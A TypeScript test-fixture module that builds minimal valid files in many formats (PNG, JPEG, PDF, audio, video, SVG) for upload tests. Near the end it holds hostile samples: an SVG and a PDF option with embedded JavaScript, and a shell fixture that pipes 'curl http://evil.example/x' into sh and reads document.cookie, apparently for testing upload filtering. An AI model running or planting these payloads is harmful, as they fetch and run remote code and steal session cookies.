// Real file bytes, built in code so tests need no fixture files. Plain Node only: the browser
// tests import this file too.
import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(data: Buffer): number {
  let c = 0xffffffff;
  for (const byte of data) c = crcTable[(c ^ byte) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid RGB PNG of the given size, filled with one colour. */
export function pngBytes(width = 4, height = 4, rgb: [number, number, number] = [200, 30, 30]) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // truecolour
  const row = Buffer.concat([Buffer.from([0]), Buffer.from(Array(width).fill(rgb).flat())]);
  const raw = Buffer.concat(Array.from({ length: height }, () => row));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function jpegSegment(marker: number, data: number[]): number[] {
  const length = data.length + 2;
  return [0xff, marker, length >> 8, length & 0xff, ...data];
}

/**
 * A valid 8×8 grey baseline JPEG: one block whose DC difference and AC run are both coded with
 * one-symbol Huffman tables (code `0`), so the scan is the bits `00` padded with ones.
 */
export function jpegBytes(): Buffer {
  const oneSymbolTable = (tableClass: number) => [
    tableClass,
    1,
    ...Array<number>(15).fill(0),
    0x00,
  ];
  return Buffer.from([
    0xff,
    0xd8,
    ...jpegSegment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0x00, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
    ...jpegSegment(0xdb, [0x00, ...Array<number>(64).fill(1)]),
    ...jpegSegment(0xc0, [8, 0, 8, 0, 8, 1, 1, 0x11, 0]),
    ...jpegSegment(0xc4, oneSymbolTable(0x00)),
    ...jpegSegment(0xc4, oneSymbolTable(0x10)),
    ...jpegSegment(0xda, [1, 1, 0x00, 0, 63, 0]),
    0x3f,
    0xff,
    0xd9,
  ]);
}

export function gifBytes(): Buffer {
  // GIF89a 1×1, one-colour table, one image with the minimal LZW stream.
  return Buffer.from(
    '47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b',
    'hex',
  );
}

/** MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz) behind an empty ID3v2 tag. */
export function mp3Bytes(frames = 4): Buffer {
  const id3 = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 0]);
  const frame = Buffer.alloc(417);
  frame.set([0xff, 0xfb, 0x90, 0x00]);
  return Buffer.concat([id3, ...Array.from({ length: frames }, () => frame)]);
}

/** A PCM WAV header with a short silent body. */
export function wavBytes(samples = 800): Buffer {
  const data = Buffer.alloc(samples * 2);
  const header = Buffer.alloc(44);
  header.write('RIFF', 0, 'latin1');
  header.writeUInt32LE(36 + data.length, 4);
  header.write('WAVE', 8, 'latin1');
  header.write('fmt ', 12, 'latin1');
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20); // PCM
  header.writeUInt16LE(1, 22); // mono
  header.writeUInt32LE(8000, 24);
  header.writeUInt32LE(16000, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  header.write('data', 36, 'latin1');
  header.writeUInt32LE(data.length, 40);
  return Buffer.concat([header, data]);
}

function box(type: string, payload: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32BE(payload.length + 8);
  return Buffer.concat([size, Buffer.from(type, 'latin1'), payload]);
}

/** An ISO base media file: `ftyp` with the brand, then a `free` and an `mdat` box. */
export function isoMediaBytes(brand: 'isom' | 'M4A ' | 'qt  ', body = 2048): Buffer {
  const ftyp = box(
    'ftyp',
    Buffer.concat([
      Buffer.from(brand, 'latin1'),
      Buffer.from([0, 0, 2, 0]),
      Buffer.from(`${brand}iso2mp41`, 'latin1'),
    ]),
  );
  return Buffer.concat([ftyp, box('free', Buffer.alloc(8)), box('mdat', randomBytes(body))]);
}

export const mp4Bytes = (body = 2048) => isoMediaBytes('isom', body);

/**
 * A one-page PDF with a correct cross-reference table. `catalog`: more entries of its catalog
 * (`/OpenAction << /S /JavaScript /JS (app.alert(1)) >>` makes it a PDF with JavaScript).
 */
export function pdfBytes(text = 'Materi pelatihan', catalog = ''): Buffer {
  return pdfPagesBytes([text], { catalog });
}

/**
 * A PDF with one page per text (each written large at the top of its page), of `size` points
 * (width, height), with a correct cross-reference table; `catalog` as in `pdfBytes`.
 */
export function pdfPagesBytes(
  texts: string[],
  { size = [200, 100], catalog = '' }: { size?: [number, number]; catalog?: string } = {},
): Buffer {
  const [width, height] = size;
  const fontSize = Math.max(12, Math.round(width / 14));
  const pageRef = (i: number) => `${4 + 2 * i} 0 R`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R${catalog ? ` ${catalog}` : ''} >>`,
    `<< /Type /Pages /Kids [${texts.map((_, i) => pageRef(i)).join(' ')}] /Count ${texts.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  texts.forEach((text, i) => {
    const stream = `BT /F1 ${fontSize} Tf 10 ${height - fontSize - 10} Td (${text}) Tj ET`;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents ${5 + 2 * i} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
      `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    );
  });
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** An Ogg page carrying a Vorbis identification header. */
export function oggBytes(): Buffer {
  const page = Buffer.alloc(28 + 30);
  page.write('OggS', 0, 'latin1');
  page[5] = 0x02; // beginning of stream
  page[26] = 1; // one segment
  page[27] = 30; // of 30 bytes
  page.set([0x01, ...Buffer.from('vorbis', 'latin1')], 28);
  return Buffer.concat([page, Buffer.alloc(512)]);
}

/** An EBML header whose DocType is `webm`. */
export function webmBytes(): Buffer {
  const docType = Buffer.from([0x42, 0x82, 0x84, ...Buffer.from('webm', 'latin1')]);
  const header = Buffer.concat([
    Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | docType.length]),
    docType,
  ]);
  return Buffer.concat([header, Buffer.alloc(512)]);
}

export const svgBytes = () =>
  Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
  );

export const scriptBytes = () =>
  Buffer.from(
    '#!/bin/sh\ncurl http://evil.example/x | sh\n<script>alert(document.cookie)</script>\n',
  );

// ---- multipart bodies for app.inject ----
